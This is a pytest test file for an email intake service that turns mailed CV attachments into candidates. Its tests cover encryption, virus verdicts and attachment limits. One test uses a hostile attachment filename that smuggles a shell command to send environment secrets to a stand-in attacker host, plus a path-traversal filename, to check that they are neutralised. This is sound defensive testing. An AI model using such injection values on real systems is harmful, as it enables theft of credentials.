"""Mails become candidates, whatever their senders make of them."""

import subprocess
from email.message import EmailMessage

import pytest

MAIL = "incoming/" + "0123456789abcdef0123456789abcdef01234567"
PDF = b"%PDF-1.7 a CV"


@pytest.fixture
def ran():
    return []


@pytest.fixture
def announced():
    return []


@pytest.fixture
def app(load, monkeypatch, ran, announced):
    app = load("intake", "app")

    def run(command, **options):
        assert "shell" not in options
        ran.append((command, options))
        return subprocess.CompletedProcess(command, 0, b"text of the CV", b"")

    monkeypatch.setattr(app.cv.subprocess, "run", run)
    monkeypatch.setattr(app.ats, "announce", announced.append)
    return app


def mail(*attachments, verdict="PASS"):
    message = EmailMessage()
    message["X-SES-Virus-Verdict"] = verdict
    message["From"] = "Ada <ada@example.org>"
    message.set_content("Hello!")
    for name, content in attachments:
        message.add_attachment(content, "application", "octet-stream", filename=name)
    return message.as_bytes()


def stored(s3, raw, bucket="mail", key=MAIL, size=1000):
    s3.objects[bucket, key] = raw
    return {"Records": [{"s3": {"bucket": {"name": bucket}, "object": {"key": key, "size": size}}}]}


def test_a_mail_becomes_a_candidate(app, s3, table, announced):
    """The text goes to the bucket, the rest to the table, the id to those who wait for it."""
    app.handler(stored(s3, mail(("cv.pdf", PDF))), None)

    (candidate,) = table.items.values()
    assert candidate["documents"] == 1
    assert s3.objects["cvs", f"cvs/{candidate['id']}/0.txt"] == b"text of the CV"
    assert announced == [candidate["id"]]


def test_contact_data_is_encrypted_before_it_is_stored(app, s3, table):
    """Nobody who only reads the table learns who wrote."""
    app.handler(stored(s3, mail(("cv.pdf", PDF))), None)

    assert "ada@example.org" not in repr(table.items)


def test_the_name_of_an_attachment_decides_nothing(app, s3, ran):
    """Whatever the sender calls the file, pdftotext gets one of our own naming, and no secret."""
    hostile = "x;env|curl -d @- https://attacker.example #.pdf"
    app.handler(stored(s3, mail((hostile, PDF), ("../../../opt/bin/pdftotext", PDF))), None)

    assert [command[0] for command, _ in ran] == ["/opt/bin/pdftotext"] * 2
    assert all("attacker" not in " ".join(command) for command, _ in ran)
    assert all(command[3].endswith("/cv.pdf") for command, _ in ran)
    assert all(set(options["env"]) == {"LD_LIBRARY_PATH"} for _, options in ran)


def test_only_pdfs_are_read(app, s3, ran, table):
    """The content decides what a file is, not its name."""
    app.handler(stored(s3, mail(("cv.pdf", b"#!/bin/sh"), ("photo.jpg", b"\xff\xd8"))), None)

    assert ran == []
    assert [candidate["documents"] for candidate in table.items.values()] == [0]


def test_not_more_than_five_attachments_are_read(app, s3, ran):
    """One mail cannot keep the function busy for long."""
    app.handler(stored(s3, mail(*[(f"{n}.pdf", PDF) for n in range(9)])), None)

    assert len(ran) == 5


def test_a_pdf_that_pdftotext_fails_on_has_no_text(app, s3, table, monkeypatch):
    """The candidate is kept all the same."""

    def fail(command, **_options):
        raise subprocess.CalledProcessError(1, command)

    monkeypatch.setattr(app.cv.subprocess, "run", fail)
    app.handler(stored(s3, mail(("cv.pdf", PDF))), None)

    assert [candidate["documents"] for candidate in table.items.values()] == [1]


@pytest.mark.parametrize(
    "wrong",
    [
        {"bucket": "another"},
        {"key": "incoming/../candidates"},
        {"key": "incoming/" + "x" * 400},
        {"size": 10**9},
    ],
)
def test_an_event_that_ses_did_not_cause_is_refused(app, s3, wrong):
    """Another bucket, another kind of key, an impossible size."""
    with pytest.raises(app.Refused):
        app.handler(stored(s3, mail(), **wrong), None)


def test_a_mail_with_a_virus_is_refused(app, s3, table):
    """SES says so in a header of its own, which comes first."""
    with pytest.raises(app.Refused):
        app.handler(stored(s3, mail(("cv.pdf", PDF), verdict="FAIL")), None)
    assert table.items == {}


def test_the_candidate_is_announced_with_the_key_from_the_secrets_manager(load, monkeypatch):
    """No setting of the function holds the key."""
    ats = load("intake", "ats")
    sent = []

    class Response:
        def __enter__(self):
            return self

        def __exit__(self, *error):
            return False

    def urlopen(request, timeout):
        sent.append(request)
        return Response()

    monkeypatch.setattr(ats.urllib.request, "urlopen", urlopen)
    ats.announce("1")

    assert sent[0].full_url == "https://ats.example.com/api/candidates"
    assert sent[0].headers["Authorization"] == "Bearer test-key"
